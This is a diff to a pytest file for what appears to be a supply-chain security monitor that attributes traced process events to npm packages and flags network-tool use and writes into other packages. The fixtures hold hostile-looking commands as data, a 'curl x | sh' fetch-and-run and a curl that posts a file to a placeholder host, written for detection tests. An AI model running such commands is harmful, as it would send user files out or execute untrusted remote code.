@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import os
 from dataclasses import dataclass, field
 
 import pytest
@@ -45,6 +46,15 @@ class Tracer:
     def opens(self, path: bytes, times: int = 1) -> bytes:
         name = self.string(path)
         made = [frames.opening(self.events + n, self.strings) for n in range(1, times + 1)]
+        self.events += times
+        return name + self.say(frames.frame(KIND.EVENTS, b"".join(made)))
+
+    def writes(self, path: bytes, times: int = 1) -> bytes:
+        name = self.string(path)
+        made = [
+            frames.event(self.events + n, call=frames.OPENAT, what=self.strings, arg=os.O_WRONLY | os.O_CREAT)
+            for n in range(1, times + 1)
+        ]
         self.events += times
         return name + self.say(frames.frame(KIND.EVENTS, b"".join(made)))
 
@@ -216,3 +226,38 @@ def test_a_scripts_words_are_its_packages_though_the_manager_starts_it(tracer: T
 
 def test_an_exec_that_fails_is_of_whoever_tried(tracer: Tracer) -> None:
     assert started(tracer, succeeds=False) == [(TOOLCHAIN, "curl x | sh")]
+
+
+def test_where_a_search_through_the_path_goes_on_the_program_was_not_there(tracer: Tracer) -> None:
+    seen: list[Event] = []
+    one = Session(Matcher(load_catalogue()), Attributor(), lambda event, _: seen.append(event))
+    one.feed(tracer.hello() + tracer.image(b"/usr/bin/npm") + tracer.becomes(2, 1, b"npm\0", kind=1))
+    for folder in (b"/opt/bin", b"/usr/local/bin", b"/usr/bin"):
+        one.feed(tracer.execs(2, folder + b"/curl", b"curl\0-sd@x\0https://a.example\0"))
+    one.feed(tracer.becomes(3, 2, b"curl\0-sd@x\0https://a.example\0", kind=2))
+    tried = {event.object: event.result for event in seen if event.action is Action.EXEC}
+    assert tried == {"/opt/bin/curl": "missing", "/usr/local/bin/curl": "missing", "/usr/bin/curl": "ok"}
+    (finding,) = (f for found in one.matcher.findings().values() for f in found if f.recipe == "network_tool")
+    assert finding.evidence[0].object == "/usr/bin/curl"
+
+
+class Meddler(Attributor):
+    """Everything is a package's, and every write goes into another's."""
+
+    def image(self, process: Process) -> Scope:
+        del process
+        return Scope(Package("pkg:npm/a@1.0.0", "npm", "a", "1.0.0"))
+
+    def meddles(self, event: Event) -> bool:
+        return "/victim/" in event.object
+
+
+def test_writes_into_another_package_are_marked_each_time_they_are_seen(tracer: Tracer) -> None:
+    seen: list[tuple[Event, int]] = []
+    one = Session(Matcher(load_catalogue()), Meddler(), lambda event, count: seen.append((event, count)))
+    one.feed(tracer.hello() + tracer.image(b"/bin/x"))
+    for times in (2, 3):
+        one.feed(tracer.writes(b"/app/node_modules/victim/index.js", times))
+    assert sum(count for event, count in seen if "foreign_package" in event.flags) == 5
+    (finding,) = (f for found in one.matcher.findings().values() for f in found)
+    assert (finding.recipe, finding.count) == ("package_tampering", 5)
